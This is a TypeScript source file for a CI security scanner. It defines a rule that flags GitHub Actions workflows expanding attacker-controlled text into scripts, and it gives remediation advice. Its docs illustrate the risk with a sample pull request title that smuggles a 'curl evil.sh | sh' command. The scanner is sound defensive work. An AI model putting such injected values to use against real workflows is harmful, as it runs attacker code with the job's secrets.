import { defineFileRule } from "../../../rule.ts";
import type { WorkflowModel } from "../model.ts";
import { expressionSource, scriptExpressions } from "../taint.ts";

export const templateInjection = defineFileRule<WorkflowModel>({
  id: "ci/template-injection",
  analyzer: "ci",
  title: "Attacker-controlled expression expanded into a script",
  severity: "critical",
  confidence: "high",
  lifecycle: "stable",
  cwe: [94, 78],
  controls: ["CI-INJ-01"],
  docs: {
    summary:
      // biome-ignore lint/suspicious/noTemplateCurlyInString: GitHub Actions ${{ }} expression syntax, not a JS template
      "A `run:` script (of a workflow or a composite action) or an input that an action runs as code (`actions/github-script` `script:`, `azure/cli` `inlineScript:`, `mikefarah/yq` `cmd:` and the other actions of `CODE_INPUT_ACTIONS`) contains `${{ … }}` that expands text an outsider writes: issue, pull request, comment and review titles and bodies, branch names (`github.head_ref`), commit messages, label and wiki page names; directly, through `${{ env.X }}` of a variable set from such a field, or through `${{ steps.<id>.outputs.<name> }}` of an earlier step that wrote such a value to `$GITHUB_OUTPUT` or of an action whose outputs carry a pull request's file or branch names (tj-actions/changed-files, tj-actions/branch-names, dorny/paths-filter).",
    whyItMatters:
      "GitHub pastes the expression into the script before the shell runs it. A pull request titled `\"; curl evil.sh | sh; #` runs the attacker's commands with the job's token and secrets.",
    remediation:
      // biome-ignore lint/suspicious/noTemplateCurlyInString: GitHub Actions ${{ }} expression syntax, not a JS template
      'Pass the value through an environment variable (`env: TITLE: ${{ github.event.issue.title }}`) and use `"$TITLE"` in the script. Expressions that only produce a boolean (`contains(…)`, `==`) and fields that cannot be present for the workflow\'s triggers are not flagged.',
    example:
      // biome-ignore lint/suspicious/noTemplateCurlyInString: GitHub Actions ${{ }} expression syntax, not a JS template
      '- name: Greet\n  env:\n    TITLE: ${{ github.event.issue.title }}\n  run: echo "New issue: $TITLE"',
    references: [
      "https://docs.zizmor.sh/audits/#template-injection",
      "https://securitylab.github.com/resources/github-actions-untrusted-input/",
    ],
  },
  check(ctx) {
    for (const { expression, where, scope } of scriptExpressions(ctx.model)) {
      const field = expressionSource(scope, expression.text);
      if (!field) continue;
      ctx.report({
        message: `${field} is expanded into ${where}; pass it through env instead`,
        at: { line: expression.line, column: expression.column },
      });
    }
  },
});
